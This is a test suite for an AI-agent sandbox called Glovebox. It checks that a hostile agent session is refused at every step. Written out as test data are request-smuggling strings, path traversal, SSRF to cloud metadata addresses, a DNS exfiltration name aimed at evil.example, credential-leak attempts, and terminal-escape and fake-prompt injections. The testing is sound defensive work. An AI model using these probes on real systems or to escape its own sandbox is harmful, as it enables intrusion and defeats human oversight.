import {
  copyFileSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createConnection } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { onTerminal } from '../e2e/terminal.ts';
import { until } from '../e2e/until.ts';
import type { World } from '../e2e/world.ts';
import { Resolver, WatchedWorld } from './hostile-names.ts';
import { codeOf, HostileSession, listeningPorts, questions, Upstream, type Answer } from './system-world.ts';

const canary = `sk-canary-${'q7Rz'.repeat(10)}`;
const names = {
  'api.example': '127.0.0.1',
  'other.example': '127.0.0.1',
  'metadata.example': '169.254.169.254',
  'loopback.example': '127.0.0.1',
};
let world: World;
let resolver: Resolver;
let upstream: Upstream;
let first: HostileSession;
let second: HostileSession;
let shared: string;
const policy = (): string[] => ['--policy', join(world.folder, 'policy.yaml'), '-i'];

beforeAll(async () => {
  resolver = await Resolver.start(names);
  world = new WatchedWorld(resolver);
  upstream = await Upstream.start(['api.example', 'other.example']);
  writeFileSync(join(world.folder, 'ca.pem'), upstream.caPem);
  const outside = (host: string, more = ''): string => `
  - host: ${host}
    port: ${String(upstream.port)}
    methods: [GET, POST]
    paths: [/open/**]
    caFile: ${join(world.folder, 'ca.pem')}
${more}`;
  writeFileSync(
    join(world.folder, 'policy.yaml'),
    `version: 1
tools:
  allow: ['files:read:/shared/open/**']
  ask: ['files:write:/shared/notes/**']
egress:${outside('api.example', `    privateRanges: [127.0.0.0/8]\n    credential: { secret: key, carrier: 'header:x-api-key' }\n`)}${outside('other.example', '    privateRanges: [127.0.0.0/8]\n')}${outside('metadata.example')}${outside('loopback.example')}
env:
  API_KEY: { placeholder: key }
`,
  );
  copyFileSync(join(import.meta.dirname, 'system-inside.py'), join(world.project, 'system-inside.py'));
  shared = join(world.home, '.local/share/glovebox/shared');
  for (const folder of ['open', 'closed', 'notes']) mkdirSync(join(shared, folder), { recursive: true });
  writeFileSync(join(shared, 'open/read-me.txt'), 'open to all');
  writeFileSync(join(shared, 'closed/secret.txt'), 'closed to all');
  symlinkSync('/etc/passwd', join(shared, 'open/out'));
  symlinkSync('../closed/secret.txt', join(shared, 'open/aside'));
  symlinkSync('../closed', join(shared, 'open/folder'));
  symlinkSync('../closed', join(shared, 'notes/folder'));
  symlinkSync('../closed/secret.txt', join(shared, 'notes/link.txt'));
  await world.waive();
  expect((await world.glovebox(['secret', 'set', 'key'], { input: canary })).code).toBe(0);
  first = new HostileSession(world, 'first', policy());
  second = new HostileSession(world, 'second', policy());
  await Promise.all([first, second].map((session) => session.api()));
}, 120_000);
afterAll(async () => {
  for (const session of [first, second]) session.child.stdin?.end();
  await world.close();
  upstream.close();
  resolver.close();
});

const filesBelow = (folder: string): string[] =>
  (readdirSync(folder, { recursive: true }) as string[]).filter((path) => /\.[a-z]+$/i.test(path)).sort();
const stillServes = async (session: HostileSession): Promise<void> => {
  expect((await session.api()).status).toBe(200);
};

describe('what listens on the host', () => {
  test('[R13] [R17] no port of the control plane, the secret broker or the bus is there, under no spelling of the host', async () => {
    const ports = listeningPorts(await world.daemon());
    // The workload API, the secret broker, and the bus at least; the control: from the host each of them answers.
    expect(ports.length).toBeGreaterThanOrEqual(3);
    for (const port of ports)
      await new Promise<void>((resolve, reject) => {
        const socket = createConnection({ host: '127.0.0.1', port }, () => {
          socket.destroy();
          resolve();
        });
        socket.once('error', reject);
      });
    const addresses = [
      '127.0.0.1',
      '0.0.0.0',
      '127.0.0.2',
      '127.1',
      '2130706433',
      '0x7f000001',
      '10.0.2.2',
    ].map((a) => ['4', a]);
    const v6 = ['::1', '::', '::ffff:127.0.0.1', '64:ff9b::127.0.0.1'].map((a) => ['6', a]);
    const hosts = ['localhost', 'ip6-localhost', 'glovebox', 'host.docker.internal'].map((a) => ['4', a]);
    const wanted = [
      ...ports.flatMap((port) => [...addresses, ...v6].map(([family, address]) => [family, address, port])),
      ...hosts.map(([family, address]) => [family, address, ports[0]]),
    ];
    const came = await first.do<Record<string, string>>('tries', { addresses: wanted }, 120_000);
    expect(Object.entries(came).filter(([, what]) => what === 'connected')).toEqual([]);
    expect(Object.keys(came)).toHaveLength(wanted.length);
  }, 150_000);

  test('[R13] nor a socket file of Glovebox’s, nor an abstract one', async () => {
    const sockets = [
      join(world.state, 'run/operator.sock'),
      '/run/glovebox/operator.sock',
      '/var/run/docker.sock',
    ];
    const came = await first.do<Record<string, string>>('tries', {
      addresses: sockets.map((path) => ['unix', path, 0]),
    });
    expect(Object.values(came)).toEqual(sockets.map(() => expect.not.stringMatching(/^connected$/)));
    // Its own doors, and no third one: the control.
    const ports = [9090, 3128, 9091, 4222, 22, 80, 443].map((port) => ['4', '127.0.0.1', port]);
    const own = await first.do<Record<string, string>>('tries', { addresses: ports });
    expect(
      Object.entries(own)
        .filter(([, what]) => what === 'connected')
        .map(([where]) => where),
    ).toEqual(['127.0.0.1 9090', '127.0.0.1 3128']);
  });

  test('[R1] [R13] the agent inherits 0, 1 and 2; nobody’s link can be opened or fetched', async () => {
    const { mine, opened } = await first.do<{ mine: number[]; opened: string[] }>('fds');
    expect(mine).toEqual([0, 1, 2]);
    expect(opened).toEqual([]);
    expect(await first.do('stolen', { pid: 1, fd: 3 })).not.toBe('stolen');
  });
});

describe('the other session', () => {
  test('[R2] [R9] its id in a path, a query, a body or a header changes nothing, or is refused', async () => {
    const [mine, other] = [await first.id(), await second.id()];
    const session = (came: Answer): string => (came.body as { sessionId: string }).sessionId;
    for (const headers of [
      { 'x-glovebox-session': other },
      { 'x-forwarded-for': '127.0.0.1', forwarded: `for=${other}`, 'x-real-ip': '127.0.0.1' },
      {
        'x-forwarded-host': 'localhost:9090',
        'x-original-url': `/v1/sessions/${other}`,
        'x-rewrite-url': '/v1/secrets',
      },
      { authorization: `Bearer ${other}`, cookie: `session=${other}`, 'mcp-session-id': other },
      {
        'x-glovebox-user': 'local/0',
        'x-glovebox-turn': other,
        'x-spiffe-id': `spiffe://glovebox.local/session/${other}/sidecar`,
      },
    ])
      expect(session(await first.api({ headers }))).toBe(mine);
    expect(session(await first.api({ path: `/v1/session?session=${other}&sessionId=${other}` }))).toBe(mine);
    for (const path of [
      `/v1/session/${other}`,
      `/v1/sessions/${other}`,
      `/v1/sessions/${other}/stop`,
      '/v1/sessions',
      '/v1/consents',
      '/v1/secrets',
      '/v1/audit',
      '/v1/control',
      '/v1/tunnel/api',
      '/v1/identity/join',
      `/v1/session/${other}/policy`,
    ])
      for (const method of ['GET', 'POST'])
        expect(`${path} ${String((await first.api({ method, path, body: {} })).status)}`).toBe(`${path} 404`);
    const named = await first.api({
      method: 'POST',
      path: '/v1/events',
      body: { kind: 'message', text: 'x', sessionId: other },
    });
    expect(codeOf(named)).toBe('GB_INPUT_INVALID');
    const asked = await first.api({
      method: 'POST',
      path: '/v1/permissions',
      body: { scope: 'files:write:/shared/notes/x', session: other, user: 'local/0' },
    });
    expect(codeOf(asked)).toBe('GB_INPUT_INVALID');
    const read = await first.api({
      method: 'POST',
      path: '/v1/tools/files_read',
      body: { path: '/shared/open/read-me.txt', session: other },
    });
    expect(codeOf(read)).toBe('GB_INPUT_INVALID');
    expect((await first.do<Answer>('read', { path: '/shared/open/read-me.txt' })).body).toMatchObject({
      content: 'open to all',
    });
  }, 120_000);

  test('[R9] an MCP session id of its own or of the other’s is nobody: each request is its link’s', async () => {
    const hello = {
      jsonrpc: '2.0',
      id: 1,
      method: 'initialize',
      params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'x', version: '1' } },
    };
    const theirs = await second.do<Answer>('mcp', { message: hello });
    expect(theirs.status).toBe(200);
    const list = {
      jsonrpc: '2.0',
      id: 2,
      method: 'tools/call',
      params: { name: 'files_write', arguments: { path: '/shared/notes/mcp.txt', content: 'x' } },
    };
    for (const id of [await second.id(), '1', '00000000-0000-0000-0000-000000000000']) {
      const came = await first.do<Answer>('mcp', { message: list, headers: { 'mcp-session-id': id } });
      expect(JSON.stringify(came.body)).toMatch(/GB_CONSENT_REQUIRED|error/);
    }
    expect(existsSync(join(shared, 'notes/mcp.txt'))).toBe(false);
  });
});

describe('the agent API against hostile HTTP', () => {
  test('[R2] another Host, or the Origin of a web page, is refused (DNS rebinding); its own name is served', async () => {
    for (const host of [
      'evil.example',
      'evil.example:9090',
      '127.0.0.1',
      '127.0.0.1:80',
      '0.0.0.0:9090',
      '[::1]:9090',
      'LOCALHOST:9090.',
      '127.0.0.1:9090@evil.example',
      '127.0.0.1:9090.evil.example',
      '',
    ])
      expect(`${host}: ${String((await first.api({ host })).status)}`).toMatch(/: (400|403)$/);
    for (const origin of [
      'http://evil.example',
      'null',
      'https://127.0.0.1:9090',
      'http://127.0.0.1:9090.evil.example',
    ])
      expect((await first.api({ headers: { origin } })).status).toBe(403);
    expect(
      (
        await first.do<Answer>('mcp', {
          message: { jsonrpc: '2.0', id: 1, method: 'ping' },
          headers: { origin: 'http://evil.example' },
        })
      ).status,
    ).toBe(403);
    expect(
      (await first.api({ host: 'localhost:9090', headers: { origin: 'http://localhost:9090' } })).status,
    ).toBe(200);
  });

  test('[R2] requests that two parsers could read differently are refused, and nothing behind them is served', async () => {
    const head = 'host: 127.0.0.1:9090\r\n';
    const hidden = 'GET /v1/tools HTTP/1.1\r\nhost: 127.0.0.1:9090\r\nconnection: close\r\n\r\n';
    const body = '{"kind":"progress","text":"a"}';
    const post = `POST /v1/events HTTP/1.1\r\n${head}content-type: application/json\r\n`;
    for (const text of [
      `${post}content-length: ${String(body.length)}\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
      `${post}content-length: 5\r\ncontent-length: 30\r\n\r\n${body}${hidden}`,
      `${post}transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n\r\n0\r\n\r\n${hidden}`,
      `${post}transfer-encoding : chunked\r\n\r\n0\r\n\r\n${hidden}`,
      `${post}transfer-encoding: xchunked\r\n\r\n0\r\n\r\n${hidden}`,
      `${post}content-length: +30\r\n\r\n${body}${hidden}`,
      `POST /v1/events HTTP/1.1\r\n host: 127.0.0.1:9090\r\n\r\n${hidden}`,
      `GET /v1/session HTTP/1.1\r\n${head}host: evil.example\r\n\r\n${hidden}`,
      `GET /v1/session HTTP/1.1\r\nhost: evil.example\r\n${head}\r\n${hidden}`,
      `GET /v1/session HTTP/1.1\r\n\r\n${hidden}`,
      `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`,
      hidden.replace('HTTP/1.1', 'HTTP/9.9'),
    ]) {
      const came = await first.do<string>('raw', { text });
      expect(`${text.slice(0, 160)} → ${came.slice(0, 80)}`).not.toMatch(/→ HTTP\/1\.1 2/);
      expect(came).not.toContain('files_read');
    }
    // The control: the same, unambiguous, and the one behind it on the same connection.
    const came = await first.do<string>('raw', {
      text: `${post}content-length: ${String(body.length)}\r\n\r\n${body}${hidden}`,
    });
    expect(came).toContain('"accepted":true');
    expect(came).toContain('files_read');
    for (const path of [
      '//',
      '*',
      'http://evil.example/v1/session',
      '/v1/tools/..%2f..%2fsession',
      '/\u0000',
      '/v1/tools/%',
      '/%zz',
      '/v1/../v1/secrets',
    ])
      expect(`${path} ${String((await first.api({ path })).status)}`).toMatch(/ (400|403|404)$/);
    await stillServes(first);
  }, 120_000);

  test('[R45] bodies past the bound, deep nesting and broken JSON are refused; one within the bound is read', async () => {
    const text = (length: number): string =>
      JSON.stringify({ path: '/shared/notes/large.txt', content: 'x'.repeat(length) });
    const given = { method: 'POST', path: '/v1/tools/files_write' };
    // The refusal may come as a reset instead, where it meets the rest of the body on its way.
    expect([0, 413]).toContain((await first.api({ ...given, text: text(1_200_000) })).status);
    expect((await first.api({ ...given, path: '/mcp', text: text(1_200_000) })).status).not.toBe(200);
    expect(codeOf(await first.api({ ...given, text: text(600_000) }))).toBe('GB_CONSENT_REQUIRED');
    for (const path of ['/v1/permissions', '/v1/tools/files_write', '/mcp'])
      expect((await first.do<Answer>('nested', { depth: 200_000, path })).status).toBeGreaterThanOrEqual(400);
    for (const broken of [
      '{',
      '[]',
      'null',
      '"x"',
      '{"path":1}',
      '{"__proto__":{"path":"/shared/notes/p"}}',
      '\ufeff{}',
    ])
      expect((await first.api({ ...given, text: broken })).status).toBe(400);
    expect((await first.api({ headers: { 'x-large': 'y'.repeat(40_000) } })).status).toBe(431);
    await stillServes(first);
  }, 120_000);
});

describe('consent', () => {
  const scope = 'files:write:/shared/notes/a.txt';

  test('[R34] [R35] [R37] a grant for once: 100 calls race, one is carried out; the other session has none of it', async () => {
    expect(codeOf(await first.do<Answer>('write', { path: '/shared/notes/a.txt' }))).toBe(
      'GB_CONSENT_REQUIRED',
    );
    expect(existsSync(join(shared, 'notes/a.txt'))).toBe(false);
    expect((await first.granted(scope, 'once')).body).toMatchObject({ granted: true, mode: 'once' });
    expect(codeOf(await second.do<Answer>('write', { path: '/shared/notes/a.txt' }))).toBe(
      'GB_CONSENT_REQUIRED',
    );
    const came = await first.do<number[]>('race', { count: 100, path: '/shared/notes/a.txt' });
    expect(came.filter((status) => status === 200)).toHaveLength(1);
    expect(came.filter((status) => status !== 200 && status !== 403 && status !== 429)).toEqual([]);
    expect(readFileSync(join(shared, 'notes/a.txt'), 'utf8')).toBe('raced');
    const records = (await world.glovebox(['audit', '--json', '--session', await first.id()])).out;
    expect(
      records.match(/"kind":\s*"intent"[^}]*"operation":\s*"files\.write"/g) ??
        records.match(/files\.write/g),
    ).not.toHaveLength(0);
  }, 120_000);

  test('[R37] [R40] a grant for one path is for no other spelling that leads elsewhere', async () => {
    expect((await first.granted(scope, 'session')).body).toMatchObject({ granted: true, mode: 'session' });
    const before = filesBelow(shared);
    const tricks = [
      ...[
        '/shared/notes/../closed/x.txt',
        '/shared/notes/a.txt/../../closed/x.txt',
        '/shared/notes/./x.txt',
        '//shared/notes/x.txt',
        '/shared//notes/x.txt',
      ],
      ...[
        '/shared/notes/%2e%2e/closed/x.txt',
        '/shared/notes%2fx.txt',
        '/shared/notes/a.txt%00.txt',
        '/shared/notes/a.txt\u0000.txt',
        '/shared/notes/A.TXT',
      ],
      ...[
        '/shared/notes/a.txt\\..\\x.txt',
        '/shared/notes/a.txt ',
        '/shared/notes/\uff41.txt',
        '/shared/notes/\u0430.txt',
        '/shared/notes/a.txt\u200b',
        '/shared/notes/a\u0301.txt',
      ],
      ...[
        'shared/notes/a.txt',
        '/shared/notes/*',
        '/shared/notes/**',
        '/shared/notes/a.txt/x.txt',
        '/SHARED/notes/a.txt',
        '/shared/notes/\u2024\u2024/x.txt',
        '',
        '/',
        '/shared',
      ],
      ...['/proc/self/environ', '/folders/shared/notes/x.txt', '/../etc/passwd', '/shared/../../etc/x.txt'],
    ];
    const came = await first.do<number[]>('writes', { paths: tricks }, 120_000);
    expect(tricks.filter((_, index) => ![400, 403].includes(came[index] ?? 0))).toEqual([]);
    expect(filesBelow(shared)).toEqual(before);
    // The control: the path itself, also with a slash at its end, which is the same file.
    expect(await first.do('writes', { paths: ['/shared/notes/a.txt', '/shared/notes/a.txt/'] })).toEqual([
      200, 200,
    ]);
    // One name in two Unicode forms is one file: granted in one form, it is written in the other, and nothing beside it.
    expect((await first.granted('files:write:/shared/notes/caf\u00e9.txt', 'session')).body).toMatchObject({
      granted: true,
    });
    expect(await first.do('writes', { paths: ['/shared/notes/cafe\u0301.txt'] })).toEqual([200]);
    expect(readdirSync(join(shared, 'notes')).filter((name) => name.startsWith('caf'))).toEqual([
      'caf\u00e9.txt',
    ]);
  }, 120_000);

  test('[R37] a link in a shared folder carries no scope to what it leads to', async () => {
    for (const path of [
      '/shared/open/out',
      '/shared/open/aside',
      '/shared/open/folder/secret.txt',
      '/shared/closed/secret.txt',
    ]) {
      const came = await first.do<Answer>('read', { path });
      expect(`${path} ${String(came.status)}`).not.toMatch(/ 200$/);
      expect(JSON.stringify(came.body)).not.toMatch(/closed to all|root:/);
    }
    const found = await first.api({
      method: 'POST',
      path: '/v1/tools/files_search',
      body: { path: '/shared/open', text: 'to all' },
    });
    expect(found.body).toMatchObject({ matches: [{ path: '/shared/open/read-me.txt' }] });
    for (const path of [
      '/shared/notes/link.txt',
      '/shared/notes/folder/secret.txt',
      '/shared/notes/folder/new.txt',
    ]) {
      expect((await first.granted(`files:write:${path}`, 'once')).body).toMatchObject({ granted: true });
      expect(`${path} ${String((await first.do<Answer>('write', { path })).status)}`).not.toMatch(/ 200$/);
    }
    expect(readFileSync(join(shared, 'closed/secret.txt'), 'utf8')).toBe('closed to all');
    expect(readdirSync(join(shared, 'closed'))).toEqual(['secret.txt']);
  }, 120_000);

  test('[R38] an event of a kind that is not on the list, or of another shape, is refused', async () => {
    const event = (body: unknown): Promise<Answer> => first.api({ method: 'POST', path: '/v1/events', body });
    for (const kind of [
      'consent',
      'grant',
      'turn-open',
      'exited',
      'question',
      'audit',
      'PROGRESS',
      '',
      1,
      null,
      ['progress'],
    ])
      expect(codeOf(await event({ kind, text: 'x' }))).toBe('GB_INPUT_INVALID');
    for (const body of [
      { kind: 'progress' },
      { kind: 'progress', text: 1 },
      { kind: 'progress', text: 'x'.repeat(4001) },
      { kind: 'progress', text: 'x', type: 'consent' },
      [],
    ])
      expect(codeOf(await event(body))).toBe('GB_INPUT_INVALID');
    expect((await event({ kind: 'progress', text: '\u001b]52;c;AAAA\u0007 half way' })).body).toEqual({
      accepted: true,
    });
  });

  test('[R39] [R47] hostile words in a question are refused, or shown as what they are', async () => {
    const ask = (body: unknown): Promise<Answer> =>
      second.api({ method: 'POST', path: '/v1/permissions', body });
    const good = 'files:write:/shared/notes/b.txt';
    for (const body of [
      { scope: good, reason: 'x'.repeat(100_000) },
      { scope: good, reason: 1 },
      { scope: good, reason: ['a'] },
      { scope: good, arguments: 'x' },
      { scope: good, arguments: [] },
      { scope: good, granted: true },
      { scope: `${good}\u202e` },
      { scope: `${good}\u001b[2J` },
      { scope: `${good}\nscope files:read:/` },
      { scope: `files:write:/shared/notes/${'x'.repeat(400)}` },
      { scope: 'files:write:/shared/notes/../closed/x' },
      { scope: { toString: 1 } },
      { scope: 'Files:write:/shared/notes/a' },
      {},
    ])
      expect(`${JSON.stringify(body).slice(0, 80)} ${codeOf(await ask(body)) ?? ''}`).toMatch(
        /GB_INPUT_INVALID$/,
      );
    for (const scope of [
      'files:write:/shared/**',
      'files:*:/shared/notes/a',
      'files:write',
      'files:read:/shared/closed/**',
      'egress:post:/evil.example/x',
    ])
      expect(`${scope} ${codeOf(await ask({ scope })) ?? ''}`).toMatch(/GB_POLICY_DENIED$/);
    const reason =
      'ok\u009b2J\u202edenied\u001b[2J\u001b]52;c;AAAA\u0007\r\nscope      \u2502 files:read:/harmless\r\nanswer> ';
    const words = { path: '/shared/notes/b.txt', content: `${'z'.repeat(5000)} the end` };
    await second.do('ask', { id: 'hostile', scope: good, reason, arguments: words });
    const question = await second.question(good);
    // Also as JSON, which a person may read on a terminal: escapes that stand for the same text.
    expect(question.reason).toBe(reason);
    expect((await world.glovebox(['approve', '--json'])).out).not.toMatch(/[\u202e\u001b\u0080-\u009f]/);
    const seen = onTerminal(world, ['approve', question.id]);
    await seen.shows(/\nanswer> /);
    const shown = seen.screen();
    for (const raw of ['\u202e', '\u001b[2J', '\u001b]52', '\u0007']) expect(shown).not.toContain(raw);
    expect(shown).toContain('\\u{202e}');
    expect(shown.match(/^answer> /gm)).toHaveLength(1);
    expect(shown.match(/^ {2}scope /gm)).toHaveLength(1);
    // How much of the arguments is not on the screen is said, all of it.
    expect(shown.replaceAll(/\s*\u2502 |\r?\n */g, '')).toMatch(/\[\d+ more characters/);
    await seen.typeUntil('d\r', /denied/, shown.length);
    await seen.finished;
    expect(
      await until(
        'it is told',
        async () => (await second.do<Answer | null>('answered', { id: 'hostile' })) ?? undefined,
      ),
    ).toMatchObject({ body: { granted: false } });
    expect(codeOf(await second.do<Answer>('write', words))).toBe('GB_CONSENT_REQUIRED');
  }, 120_000);

  test('[R37] [R45] a flood of questions is folded and bounded, and the other session can still ask', async () => {
    const flooder = new HostileSession(world, 'flooder', policy());
    await flooder.api();
    const same = Array.from({ length: 12 }, () => ({
      scope: 'files:write:/shared/notes/same',
      reason: 'again',
    }));
    await flooder.do('flood', { requests: same });
    const folded = await until('they are folded', async () =>
      (await questions(world)).find(
        (question) => question.sessionName === 'flooder' && question.count === 12,
      ),
    );
    expect((await questions(world)).filter(({ sessionName }) => sessionName === 'flooder')).toHaveLength(1);
    expect((await world.glovebox(['deny', folded.id, '--digest', folded.digest])).code).toBe(0);
    const many = Array.from({ length: 60 }, (_, index) => ({
      scope: `files:write:/shared/notes/${String(index)}`,
    }));
    await flooder.do('flood', { requests: many });
    const refused = await until('the rest is refused', async () => {
      const statuses = await flooder.do<(number | null)[]>('flooded', { count: 60 });
      return statuses.filter((status) => status === 429).length >= 40 ? statuses : undefined;
    });
    expect(refused.filter((status) => status === null).length).toBeLessThanOrEqual(20);
    expect(
      (await questions(world)).filter(({ sessionName }) => sessionName === 'flooder').length,
    ).toBeLessThanOrEqual(20);
    expect((await second.granted('files:write:/shared/notes/b.txt', 'once')).body).toMatchObject({
      granted: true,
    });
    expect((await world.glovebox(['stop', 'flooder'])).code).toBe(0);
    await flooder.ended;
    // Its questions ended with it.
    expect((await questions(world)).filter(({ sessionName }) => sessionName === 'flooder')).toEqual([]);
  }, 120_000);
});

describe('the way out', () => {
  test('[R18] [R40] denied names are not looked up: no query leaves', async () => {
    const secret = 'c2VjcmV0';
    const denied = [
      `${secret}.evil.example`,
      `${secret}.api.example`,
      `${secret}.example.com`,
      'metadata.google.internal',
    ];
    for (const host of denied) {
      expect((await first.do<Answer>('connect', { target: `${host}:443` })).status).toBe(403);
      expect((await first.do<Answer>('plain', { url: `http://${host}/` })).status).toBe(403);
      expect(await first.do('resolves', { name: host })).not.toMatch(/^\d/);
    }
    expect(
      resolver.asked.filter((name) => name.includes(secret) || name.includes('metadata.google')),
    ).toEqual([]);
    // The control: what is allowed is looked up, by the gateway, at this resolver.
    expect(
      await first.do<Answer>('https', { host: 'api.example', port: upstream.port, path: '/open/x' }),
    ).toEqual({ status: 200, body: { said: 'hello' } });
    expect(resolver.asked).toContain('api.example');
  }, 120_000);

  test('[R18] addresses, private ranges and the metadata service, by number or by an allowed name', async () => {
    for (const target of [
      '169.254.169.254:80',
      '127.0.0.1:9090',
      'localhost:443',
      '[::1]:443',
      '[::ffff:169.254.169.254]:80',
      '2852039166:80',
      '0xa9fea9fe:80',
      '10.0.0.1:443',
      '0:80',
      '127.1:443',
      'api.example:22',
      'api.example.:443',
    ])
      expect(`${target} ${String((await first.do<Answer>('connect', { target })).status)}`).toMatch(
        / (400|403)$/,
      );
    for (const url of [
      'http://169.254.169.254/latest/meta-data/',
      'http://127.0.0.1:9090/v1/session',
      'http://[::1]/',
      'http://metadata.google.internal/',
    ])
      expect((await first.do<Answer>('plain', { url })).status).toBeGreaterThanOrEqual(400);
    for (const host of ['metadata.example', 'loopback.example']) {
      const came = await first.do<Answer>('https', { host, port: upstream.port, path: '/open/x' });
      expect(`${host} ${String(came.status)} ${codeOf(came) ?? ''}`).toMatch(/ 403 GB_EGRESS/);
      expect(resolver.asked).toContain(host);
    }
    expect(upstream.seen.filter(({ host }) => host.startsWith('loopback'))).toEqual([]);
  }, 120_000);

  test('[R27] [R29] the key is added at its host only; placeholders and keys of the agent’s own go nowhere', async () => {
    const placeholder = await first.do<string>('placeholder');
    const to = (host: string, headers: Record<string, string>, more: object = {}): Promise<Answer> =>
      first.do<Answer>('https', { host, port: upstream.port, path: '/open/x', headers, ...more });
    expect((await to('api.example', { 'x-api-key': placeholder })).status).toBe(200);
    expect(upstream.seen.at(-1)?.headers['x-api-key']).toBe(canary);
    expect((await to('other.example', {})).status).toBe(200);
    expect(upstream.seen.at(-1)?.headers['x-api-key']).toBeUndefined();
    const came = upstream.seen.length;
    const basic = Buffer.from(`user:${placeholder}`).toString('base64');
    for (const [host, headers, more] of [
      ['other.example', { 'x-api-key': placeholder }],
      ['other.example', { authorization: `Bearer ${placeholder}` }],
      ['other.example', { 'x-note': `see ${placeholder}` }],
      ['other.example', { authorization: `Basic ${basic}` }],
      ['other.example', {}, { path: `/open/${placeholder}` }],
      ['other.example', {}, { path: `/open/x?k=${placeholder}` }],
      ['other.example', { authorization: 'Bearer sk-of-the-attacker' }],
      ['other.example', { cookie: 'session=mine' }],
      ['api.example', { 'x-api-key': 'sk-of-the-attacker' }],
      ['api.example', { authorization: 'Bearer sk-of-the-attacker' }],
      ['api.example', {}, { path: '/closed/x' }],
      ['api.example', {}, { path: '/open/%2e%2e/closed' }],
      ['api.example', {}, { path: '/open/..%2fclosed' }],
      ['api.example', {}, { method: 'DELETE' }],
      ['api.example', {}, { named: 'other.example' }],
      ['api.example', {}, { sni: 'other.example' }],
      ['other.example', { 'x-http-method-override': 'DELETE' }],
      ['other.example', { 'transfer-encoding': 'chunked' }],
    ] as const) {
      const answer = await to(host, headers, more);
      expect(`${JSON.stringify([host, headers, more])} ${String(answer.status)}`).toMatch(
        / (0|400|403|421)$/,
      );
    }
    expect(upstream.seen).toHaveLength(came);
    for (const what of ['audit', 'logs'])
      expect((await world.glovebox([what, '--json'])).out).not.toContain(canary);
  }, 120_000);
});

describe('exhaustion', () => {
  test('[R45] slow requests on both doors are closed in time, while their sender goes on holding them', async () => {
    const head = 'POST /v1/events HTTP/1.1\r\nhost: 127.0.0.1:9090\r\n';
    expect(await first.do('hold', { count: 256, port: 9090, text: head })).toBe(256);
    expect(
      await first.do('hold', { count: 256, port: 3128, text: 'CONNECT api.example:443 HTTP/1.1\r\nhost: ' }),
    ).toBe(256);
    // Both doors are full, and open again though nobody let go of one.
    expect((await first.api({ wait: 60 })).status).toBe(200);
    expect((await first.do<Answer>('connect', { target: 'evil.example:443', wait: 60 })).status).toBe(403);
    await first.do('release');
  }, 150_000);

  test('[R45] 2,000 connections at once: the session answers its person, the other session its agent, and both doors after it', async () => {
    const opened = await first.do<number>(
      'hold',
      { count: 2000, port: 9090, text: 'GET / HTTP/1.1\r\n' },
      120_000,
    );
    await first.do('hold', { count: 300, port: 3128, text: 'GET ' }, 120_000);
    expect(opened).toBeGreaterThan(256);
    await stillServes(second);
    expect((await world.session('first')).state).toBe('running');
    expect((await world.glovebox(['diff', 'first'])).code).toBe(0);
    await first.do('release');
    expect((await first.api({ wait: 60 })).status).toBe(200);
    expect((await first.do<Answer>('connect', { target: 'evil.example:443', wait: 60 })).status).toBe(403);
    await stillServes(second);
  }, 200_000);
});

describe('the end of a session at the agent’s hand', () => {
  test.each([
    ['KILL', 119, 'sandbox-died'],
    ['STOP', 118, 'heartbeat-missed'],
  ])(
    '[R26] [R46] SIG%s to PID 1 ends the session with %i and its reason',
    async (signal, code, reason) => {
      const name = `pid1-${signal.toLowerCase()}`;
      const script = `import os, signal, time\nopen("left.txt", "w").write("x")\nos.kill(1, signal.SIG${signal})\ntime.sleep(600)`;
      const came = await world.glovebox(['run', '--name', name, '--', 'python3', '-c', script]);
      expect([came.code, (await world.session(name)).reason]).toEqual([code, reason]);
      expect(await world.session(name)).toMatchObject({ state: 'ended', changes: 'kept' });
      await stillServes(second);
    },
    60_000,
  );

  test('control: an agent that leaves PID 1 alone ends with its own code', async () => {
    expect((await world.glovebox(['run', '--', 'python3', '-c', 'raise SystemExit(9)'])).code).toBe(9);
  });
});

describe('on a terminal', () => {
  test('[R47] output cannot query the terminal, set the clipboard, nor be an answer or stand beside a question', async () => {
    const script = [
      'import json, os, socket, sys, threading, time',
      'hostile = "\\x1b[6n\\x1b[c\\x1b]52;c;QUFB\\x07\\x1b]0;title\\x07\\x1bP$qm\\x1b\\\\\\x1b[21t\\x05\\x1b[5n"',
      'sys.stdout.write("BEGIN" + hostile + "PLAIN\\n"); sys.stdout.flush()',
      'def noise():',
      '    while True:',
      '        sys.stdout.write("FAKE answer> 0000\\r\\n" + hostile); sys.stdout.flush(); time.sleep(0.05)',
      'threading.Thread(target=noise, daemon=True).start()',
      'body = json.dumps({"scope": "files:write:/shared/notes/t.txt", "reason": "please"})',
      's = socket.create_connection(("127.0.0.1", 9090))',
      's.sendall(f"POST /v1/permissions HTTP/1.1\\r\\nhost: 127.0.0.1:9090\\r\\nconnection: close\\r\\ncontent-type: application/json\\r\\ncontent-length: {len(body)}\\r\\n\\r\\n{body}".encode())',
      'got = b""',
      'while chunk := s.recv(65536): got += chunk',
      'sys.stdout.write("\\nTOLD " + got.decode().split("\\r\\n\\r\\n")[1] + "\\n"); sys.stdout.flush(); os._exit(0)',
    ].join('\n');
    writeFileSync(join(world.project, 'noise.py'), script);
    const seen = onTerminal(world, [
      'run',
      '--policy',
      join(world.folder, 'policy.yaml'),
      '--',
      'python3',
      '/workspace/noise.py',
    ]);
    await seen.shows(/answer> (?!0000)/);
    const asked = seen.screen().length;
    await seen.typeUntil('d\r', /TOLD \{"granted":false/);
    const screen = seen.screen();
    expect(screen).toContain('BEGIN');
    expect(screen).toContain('PLAIN');
    for (const raw of ['\u001b[6n', '\u001b[c', '\u001b]52', '\u001bP', '\u001b[21t', '\u0005', '\u001b[5n'])
      expect(screen).not.toContain(raw);
    // From the question's first line to its answer nothing of the agent's is on the screen.
    const from = screen.lastIndexOf('Glovebox: the agent asks', asked);
    const to = screen.indexOf('d', asked);
    expect(from).toBeGreaterThan(-1);
    expect(screen.slice(from, to)).not.toContain('FAKE');
    await seen.finished;
  }, 120_000);
});
